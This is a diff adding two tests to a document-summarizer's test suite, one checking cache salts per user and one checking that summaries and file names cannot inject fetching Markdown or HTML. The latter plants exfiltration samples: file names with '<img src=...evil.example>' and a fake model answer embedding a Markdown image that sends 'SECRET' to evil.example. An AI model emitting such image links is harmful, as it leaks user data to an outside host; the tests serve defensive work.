@@ -307,3 +307,45 @@ def test_control_sequences_in_an_answer_do_not_reach_the_summary_file(tmp_path: 
             collect_items(workspace, [str(tmp_path / "in")]))
     text = Path(outcome.output).read_text()
     assert text.rstrip().endswith("Plain text.") and "\x1b" not in text and "\x07" not in text
+
+
+def test_summary_files_and_the_index_cannot_make_a_markdown_viewer_fetch(tmp_path: Path):
+    """The summary is a model's text about an untrusted document and the names are file names:
+    neither may put a live image or raw HTML into the files a Markdown preview opens."""
+    from sparkdocs.safe_text import fetching_constructs
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "<img src=https:evil.example>.txt").write_text("One document.")
+    (folder / "![x](https:evil.example?d=1) --!><img src=x>.txt").write_text("Another one.")
+    with FakeServer() as server:
+        server.behaviour.answer = ('Done ![p](https://evil.example/p.png?d=SECRET) and '
+                                   '<img src="https://evil.example/q.png">')
+        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
+        workspace = Workspace(settings)
+        outcomes = BatchSummarizer(workspace, ModelClient(settings), BatchOptions(
+            out_dir=tmp_path / "out", max_tokens=40)).run(collect_items(workspace, [str(folder)]))
+    assert all(o.status is OutcomeStatus.DONE for o in outcomes)
+    for path in (tmp_path / "out").glob("*.md"):
+        text = path.read_text()
+        header_end = text.index("-->") + 3 if text.startswith("<!--") else 0
+        assert "--!>" not in text[:header_end], path.name  # the comment is closed only once
+        assert fetching_constructs(text[header_end:]) == [], path.name
+
+
+def test_summaries_carry_the_users_cache_salt_in_team_mode(tmp_path: Path):
+    """Per-user prefix caching covers summaries too: the same salt as the user's questions."""
+    from sparkdocs.config import AuthMode
+    from sparkdocs.qa import QuestionAnswering
+
+    _docs(tmp_path / "in", 1)
+    with FakeServer() as server:
+        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0,
+                            auth=AuthMode.PASSWORD, user="alice")
+        workspace = Workspace(settings)
+        client = ModelClient(settings)
+        BatchSummarizer(workspace, client, BatchOptions(out_dir=tmp_path / "out", max_tokens=8)
+                        ).run(collect_items(workspace, [str(tmp_path / "in")]))
+        salts = [r.get("cache_salt") for r in server.behaviour.requests if "messages" in r]
+    expected = QuestionAnswering(workspace, client).cache_salt("alice")
+    assert expected and salts and set(salts) == {expected}
